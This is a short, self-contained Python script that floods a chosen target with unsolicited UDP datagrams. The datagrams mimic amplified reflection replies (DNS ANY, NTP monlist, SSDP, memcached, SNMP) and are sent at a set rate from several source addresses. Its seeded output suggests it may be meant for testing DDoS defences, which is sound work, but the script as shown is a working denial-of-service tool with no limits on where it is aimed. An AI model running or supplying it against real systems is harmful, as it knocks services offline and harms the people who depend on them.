"""Sends what open services answer: long datagrams from their ports, which the target never asked for."""

import argparse
import random
import socket
import struct
import time


def main():
    arguments = _arguments()
    chance = random.Random(arguments.seed)
    outs = [_bound(source, arguments.from_port) for source in arguments.sources.split(",")]
    begin = time.monotonic()
    for number in range(int(arguments.rate * arguments.seconds)):
        try:
            chance.choice(outs).sendto(
                _ANSWERS[arguments.kind](chance, arguments.longest), (arguments.target, arguments.to_port)
            )
        except OSError:  # the target's refusals come back here
            pass
        time.sleep(max(0, begin + number / arguments.rate - time.monotonic()))


def _bound(source, port):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    out.bind((source, port))
    return out


def _dns(chance, longest):
    """An answer to ANY with many texts."""
    name = b"\x04open\x07example\x00"
    texts = chance.randint(4, max(4, longest // 215))
    answer = struct.pack("!HHHHHH", chance.getrandbits(16), 0x8180, 1, texts, 0, 0) + name + struct.pack("!HH", 255, 1)
    for _ in range(texts):
        text = chance.randbytes(100).hex().encode()
        answer += b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 3600, len(text) + 1) + bytes([len(text)]) + text
    return answer


def _ntp(chance, longest):
    """An answer to the request for the list of who asked."""
    items = 6
    header = struct.pack("!BBBBHH", 0xD7, chance.randrange(128), 3, 42, items, 72)
    return (header + chance.randbytes(72 * items))[:longest]


def _ssdp(chance, longest):
    text = "HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nEXT:\r\n"
    text += f"USN: uuid:{chance.randbytes(16).hex()}::upnp:rootdevice\r\nSERVER: Linux/2.6 UPnP/1.0\r\n"
    text += f"LOCATION: http://192.168.0.1:{chance.randint(1024, 65000)}/rootDesc.xml\r\n\r\n"
    return text.encode()[:longest]


def _memcached(chance, longest):
    return struct.pack("!HHHH", 0, chance.randrange(100), 100, 0) + chance.randbytes(longest - 8)


def _snmp(chance, longest):
    body = chance.randbytes(chance.randint(longest // 2, longest) - 4)
    return b"\x30\x82" + struct.pack("!H", len(body)) + body


_ANSWERS = {"dns": _dns, "ntp": _ntp, "ssdp": _ssdp, "memcached": _memcached, "snmp": _snmp}


def _arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--sources", required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--kind", choices=_ANSWERS, required=True)
    parser.add_argument("--from-port", type=int, required=True)
    parser.add_argument("--to-port", type=int, required=True)
    parser.add_argument("--longest", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    return parser.parse_args()


main()
